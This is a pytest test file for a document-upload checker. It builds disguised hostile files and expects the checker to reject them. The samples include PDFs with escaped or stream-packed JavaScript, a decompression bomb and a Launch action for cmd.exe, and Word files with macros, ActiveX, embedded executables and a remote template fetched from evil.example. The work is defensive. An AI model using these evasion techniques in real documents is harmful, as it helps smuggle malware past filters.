"""Files that hide what they are: packed and escaped PDF code, Office programs and templates from elsewhere."""

import io
import random
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from portal.common.errors import DomainError
from portal.documents.checks import check_upload


def pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, text) for number, text in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\n%%EOF"


def packed(text: bytes, name: bytes = b"ObjStm", filters: bytes = b"/FlateDecode", body: bytes | None = None) -> bytes:
    data = zlib.compress(text) if body is None else body
    return b"<</Type/%s/N 1/First 4/Filter%s/Length %d>>\nstream\n%s\nendstream" % (name, filters, len(data), data)


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
HIDDEN = {
    "plain": pdf(SCRIPT),
    "escaped name": pdf(SCRIPT.replace(b"JavaScript", b"J#61vaScript")),
    "packed": pdf(packed(b"5 0 " + SCRIPT)),
    "packed under an escaped name": pdf(packed(b"5 0 " + SCRIPT, b"Obj#53tm")),
    "packed and escaped": pdf(packed(b"5 0 " + SCRIPT.replace(b"JavaScript", b"#4AavaScript"))),
    "second of two packed": pdf(packed(b"5 0 <<>>"), packed(b"5 0 " + SCRIPT)),
    "packed twice": pdf(packed(b"", filters=b"[/ASCIIHexDecode/FlateDecode]", body=b"789c4b4c4a06>")),
    "bomb": pdf(packed(b"\0" * 30_000_000)),
    "program": pdf(b"<</S/Launch/F(cmd.exe)>>"),
    "file inside": pdf(b"<</Names<</EmbeddedFiles 2 0 R>>>>"),
}


def accepted(name: str, content: bytes) -> bool:
    try:
        return bool(check_upload(SimpleUploadedFile(name, content)))
    except DomainError:
        return False


@pytest.mark.parametrize("attack", HIDDEN)
def test_code_in_a_pdf_is_found_however_it_is_hidden(attack: str) -> None:
    assert not accepted("plan.pdf", HIDDEN[attack])


def test_honest_pdfs_pass_also_large_scans_that_hold_every_short_name_by_chance() -> None:
    noise = random.Random(1).randbytes(2_000_000) + b"/JS /AA /JS\x80\n"
    scan = b"<</Subtype/Image/Filter/DCTDecode/Length 9>>\nstream\n" + noise + b"endstream"
    assert accepted("scan.pdf", pdf(scan, packed(b"5 0 <</Type/Catalog>>")))


def test_a_protected_pdf_is_refused_with_the_reason() -> None:
    locked = pdf(packed(b"", body=b"not zlib at all"), b"<</Encrypt 9 0 R>>")
    with pytest.raises(DomainError, match="protected by a password"):
        check_upload(SimpleUploadedFile("bank.pdf", locked))


def test_looking_into_a_pdf_stays_linear() -> None:
    """A million openings without an end: seconds if each were searched to the end, for hours."""
    assert accepted("odd.pdf", pdf(b"/ObjStm stream " * 200_000)) in (True, False)


def office(names: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>", **names}.items():
            archive.writestr(name, content)
    return buffer.getvalue()


KIND = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OFFICE = {
    "macros": {"word/vbaProject.bin": b"x"},
    "control": {"word/activeX/activeX1.xml": b"<x/>"},
    "program inside": {"word/embeddings/oleObject1.bin": b"MZ"},
    "template from elsewhere": {
        "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="a" Type="%s/attachedTemplate" '
        b'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>' % KIND
    },
    "frame from elsewhere": {
        "word/_rels/document.xml.rels": b"<r:Relationship TargetMode='External' Type='%s/frame' Target='x'/>" % KIND
    },
}


@pytest.mark.parametrize("attack", OFFICE)
def test_office_files_carry_no_programs_and_fetch_nothing(attack: str) -> None:
    assert not accepted("plan.docx", office(OFFICE[attack]))


def test_an_office_file_with_a_link_passes() -> None:
    link = b'<Relationship Type="%s/hyperlink" Target="https://noor.example/" TargetMode="External"/>' % KIND
    assert accepted("plan.docx", office({"word/_rels/document.xml.rels": link, "word/embeddings/sheet.xlsx": b"x"}))


def test_a_table_as_text_carries_no_page() -> None:
    assert not accepted("rows.csv", b"a,b\n<script>alert(1)</script>,2\n")
    assert accepted("rows.csv", b"a,b\n1,2\n")
